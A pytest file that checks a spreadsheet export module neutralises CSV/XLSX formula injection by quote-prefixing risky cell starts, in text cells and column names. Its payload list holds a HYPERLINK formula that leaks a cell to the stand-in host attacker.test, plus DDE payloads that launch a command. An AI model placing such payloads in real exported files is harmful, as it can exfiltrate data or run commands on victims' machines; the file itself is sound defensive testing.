"""Every CSV/XLSX the app or the CLI hands out neutralises spreadsheet formulas (OWASP: a text cell
starting with = + - @, tab or carriage return gets a leading '), tested with the five payloads that
reached the downloads raw (issue 16 item 6), in text cells, in column names and beside real numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from orchestration.lib.spreadsheet import neutralize, to_csv_bytes, to_xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://attacker.test/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
MORE = ["\t=1+1", "\r=1+1"]


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "seller_sku": PAYLOADS + MORE + ["SKU-1"],
        "file_name": [f"{p}.csv" for p in PAYLOADS + MORE] + ["orders.csv"],
        "net_usd": [-0.02, 1.5, -3.0, 4.25, 0.0, 1.0, 2.0, 749.71],
        "units": list(range(8)),
    })


@pytest.mark.parametrize("payload", PAYLOADS + MORE)
def test_neutralize_prefixes_every_formula_start(payload):
    assert neutralize(payload) == "'" + payload


def test_plain_text_and_numbers_are_untouched():
    assert neutralize("SKU-1") == "SKU-1" and neutralize(-2) == -2 and neutralize(None) is None


def test_csv_download_neutralises_all_payloads_and_keeps_numbers():
    text = to_csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, payload in zip(rows, PAYLOADS + MORE, strict=False):
        assert row["seller_sku"] == "'" + payload
        assert row["file_name"] == "'" + payload + ".csv"
    assert rows[-1]["seller_sku"] == "SKU-1"
    assert rows[0]["net_usd"] == "-0.02"  # a negative amount stays a number


def test_csv_neutralises_a_formula_column_name():
    text = to_csv_bytes(pd.DataFrame({"=1+1": ["a"]})).decode("utf-8-sig")
    assert text.splitlines()[0] == "'=1+1"


def test_xlsx_download_holds_text_never_formulas():
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame(), sheet_name="unmapped/products")))
    sheet = book.active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("seller_sku", "file_name", "net_usd", "units")
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    skus = [row[0] for row in values[1:]]
    assert skus[:5] == ["'" + p for p in PAYLOADS]
    assert all(sku.startswith("'") for sku in skus[5:7])  # XML stores a bare CR as a line feed
    assert values[1][2] == -0.02 and isinstance(values[1][3], int)
